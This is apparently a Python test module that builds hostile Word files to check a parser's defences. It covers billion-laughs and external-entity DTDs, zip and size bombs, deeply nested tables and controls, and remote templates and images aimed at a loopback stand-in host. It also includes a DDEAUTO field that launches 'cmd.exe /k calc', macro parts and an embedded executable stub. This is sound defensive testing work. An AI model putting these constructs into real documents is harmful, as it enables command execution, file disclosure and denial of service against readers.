"""Hostile Word files."""

from __future__ import annotations

import struct

from tests.hostile.made import (
    LAUGHS,
    LOCAL,
    MAIN,
    REMOTE,
    WORDS,
    XML,
    W,
    body,
    docx,
    hostile,
    paragraph,
    relation,
    relations,
)
from tests.hostile.ole import compound


@hostile("dtd-laughs.docx", "dtd", reads=False)
def _():
    return docx(body(doctype=LAUGHS, words="&l9;"))


@hostile("dtd-local-file.docx", "dtd", reads=False)
def _():
    return docx(body(doctype=LOCAL, words="&x;"))


@hostile("dtd-remote.docx", "dtd", reads=False)
def _():
    return docx(body(doctype=REMOTE, words="&x;"))


@hostile("dtd-in-utf-16.docx", "dtd", reads=False)
def _():
    return docx(body(doctype=LAUGHS, words="&l9;").replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))


@hostile("dtd-after-a-long-comment.docx", "dtd", reads=False)
def _():
    return docx(body(doctype=f"<!--{'x' * 10_000}-->{LAUGHS}", words="&l9;"))


@hostile("dtd-in-styles.docx", reads=None)
def _():
    return docx(word__styles_xml=f'{XML}{LAUGHS}<w:styles xmlns:w="{W}"><w:style>&l9;</w:style></w:styles>')


@hostile("dtd-in-footnotes.docx", reads=None)
def _():
    return docx(word__footnotes_xml=f'{XML}{LOCAL}<w:footnotes xmlns:w="{W}">&x;</w:footnotes>')


@hostile("paragraphs-3-million.docx", "zip_bomb", "paragraphs")
def _():
    return docx(body("<w:p/>" * 3_000_000))


@hostile("paragraphs-with-words.docx", "zip_bomb", "paragraphs")
def _():
    return docx(body(paragraph("支出1.2万元") * 400_000))


@hostile("styles-1-million.docx")
def _():
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{n - 1}"/></w:style>' for n in range(400_000)
    )
    return docx(word__styles_xml=f'{XML}<w:styles xmlns:w="{W}">{styles}</w:styles>')


@hostile("styles-in-a-circle.docx", reads=True)
def _():
    ring = "".join(f'<w:style w:styleId="{a}"><w:basedOn w:val="{b}"/></w:style>' for a, b in ("ab", "bc", "ca", "dd"))
    text = f'<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>{WORDS}</w:t></w:r></w:p>'
    return docx(body(text), word__styles_xml=f'{XML}<w:styles xmlns:w="{W}">{ring}</w:styles>')


@hostile("comments-1-million.docx")
def _():
    notes = "".join(f'<w:comment w:id="{n}"/>' for n in range(1_000_000))
    return docx(word__comments_xml=f'{XML}<w:comments xmlns:w="{W}">{notes}</w:comments>')


@hostile("numbering-deep-and-wide.docx")
def _():
    levels = "".join(
        f'<w:abstractNum w:abstractNumId="{n}"><w:lvl w:ilvl="0"><w:lvlText w:val="%1%1%1%1"/></w:lvl></w:abstractNum>'
        for n in range(100_000)
    )
    return docx(word__numbering_xml=f'{XML}<w:numbering xmlns:w="{W}">{levels}</w:numbering>')


@hostile("numbers-that-explode.docx", reads=None)
def _():
    level = (
        f'<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="2147483647"/><w:numFmt '
        f'w:val="upperRoman"/><w:lvlText w:val="{"%1" * 2000}"/></w:lvl></w:abstractNum><w:num '
        f'w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
    )
    text = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'
        * 2000
    )
    return docx(body(text), word__numbering_xml=f'{XML}<w:numbering xmlns:w="{W}">{level}</w:numbering>')


@hostile("tables-5000-deep.docx")
def _():
    return docx(body("<w:tbl><w:tr><w:tc>" * 5000 + "</w:tc></w:tr></w:tbl>" * 5000))


@hostile("insertions-200-deep.docx", reads=True)
def _():
    return docx(body(f"<w:p>{'<w:ins>' * 200}<w:r><w:t>{WORDS}</w:t></w:r>{'</w:ins>' * 200}</w:p>"))


@hostile("controls-100000-deep.docx")
def _():
    return docx(body("<w:sdt><w:sdtContent>" * 100_000 + paragraph() + "</w:sdtContent></w:sdt>" * 100_000))


@hostile("cell-of-2-billion-columns.docx", reads=True)
def _():
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>{paragraph()}</w:tc>'
    return docx(body(f"<w:tbl><w:tr>{cell}{cell}</w:tr></w:tbl>"))


@hostile("cells-merged-downwards.docx")
def _():
    cell = "<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>"
    return docx(body(f"<w:tbl>{f'<w:tr>{cell * 63}</w:tr>' * 20_000}</w:tbl>"))


@hostile("run-of-40-million-characters.docx")
def _():
    return docx(body(paragraph("1,2" * 14_000_000)))


@hostile("attribute-of-40-million-characters.docx")
def _():
    return docx(body(f'<w:p w:rsidR="{"A" * 40_000_000}"/>'))


@hostile("a-million-attributes.docx")
def _():
    attributes = " ".join(f'a{n}="1"' for n in range(1_000_000))
    return docx(body(f"<w:p {attributes}/>"))


@hostile("template-from-outside.docx", "outside", reads=True)
def _():
    settings = f'{XML}<w:settings xmlns:w="{W}" xmlns:r="x"><w:attachedTemplate r:id="rId1"/></w:settings>'
    return docx(
        word__settings_xml=settings,
        word___rels__settings_xml_rels=relations(relation("attachedTemplate", "http://127.0.0.1:9/evil.dotm")),
    )


@hostile("picture-from-outside.docx", "outside", reads=True)
def _():
    return docx(word___rels__document_xml_rels=relations(relation("image", "http://127.0.0.1:9/seen.png")))


@hostile("frame-and-object-from-outside.docx", "outside", reads=True)
def _():
    return docx(
        word___rels__document_xml_rels=relations(
            relation("oleObject", "file:///c:/x.xlsx"), relation("frame", "\\\\127.0.0.1\\share\\x", 2)
        )
    )


@hostile("links-to-pages-are-usual.docx", reads=True, silent=("outside",))
def _():
    return docx(word___rels__document_xml_rels=relations(relation("hyperlink", "http://127.0.0.1:9/policy.html")))


@hostile("template-on-the-writers-own-disk-is-usual.docx", reads=True, silent=("outside",))
def _():
    settings = relations(relation("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm"))
    return docx(word___rels__settings_xml_rels=settings)


@hostile("dde-field.docx", "outside", reads=True)
def _():
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO '
        'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar '
        'w:fldCharType="end"/></w:r></w:p>'
    )
    return docx(body(field))


@hostile("field-that-fetches.docx", "outside", reads=True)
def _():
    return docx(body('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://127.0.0.1:9/x.png&quot; \\d "/></w:p>'))


@hostile("macros.docm", "macros", reads=True)
def _():
    return docx(
        main="application/vnd.ms-word.document.macroEnabled.main+xml", word__vbaProject_bin=compound({"VBA": b"x"})
    )


@hostile("macros-under-another-name.docx", "macros", reads=True)
def _():
    return docx(word__vbaProject_bin=compound({"VBA": b"x"}))


@hostile("program-inside.docx", "embedded", reads=True)
def _():
    return docx(word__embeddings__oleObject1_bin=compound({"\x01Ole10Native": b"MZ" + b"\0" * 5000}))


@hostile("html-part-inside.docx", reads=True)
def _():
    part = '<html><script src="http://127.0.0.1:9/x.js"></script><body>附件</body></html>'
    return docx(
        body('<w:altChunk r:id="rId1"/>'),
        word__part_html=part,
        word___rels__document_xml_rels=relations(relation("aFChunk", "part.html", outside=False)),
    )


@hostile("encrypted.docx", "encrypted", reads=False)
def _():
    return compound(
        {"EncryptionInfo": struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>", "EncryptedPackage": b"\x07" * 9000}
    )


@hostile("no-list-of-types.docx", reads=None)
def _():
    from tests.hostile.made import zipped

    return zipped({"word/document.xml": body()})


@hostile("body-named-by-a-relation-to-itself.docx", reads=None)
def _():
    from tests.hostile.made import types, zipped

    return zipped(
        {
            "[Content_Types].xml": types(),
            "_rels/.rels": relations(relation("officeDocument", "_rels/.rels", outside=False)),
            "word/document.xml": body(),
        }
    )


@hostile("data-part-of-a-bomb.docx", reads=None)
def _():
    return docx(customXml__item1_xml=f'{XML}{LAUGHS}<r xmlns="urn:jixiao:report:1">&l9;</r>')


@hostile("data-part-of-40-million.docx", reads=None)
def _():
    return docx(customXml__item1_xml=f'{XML}<r xmlns="urn:jixiao:report:1">{"<figure id=1>" * 1}{"x" * 40_000_000}</r>')


@hostile("content-type-of-nothing.docx", reads=None)
def _():
    return docx(main=MAIN + "x" * 1_000_000)
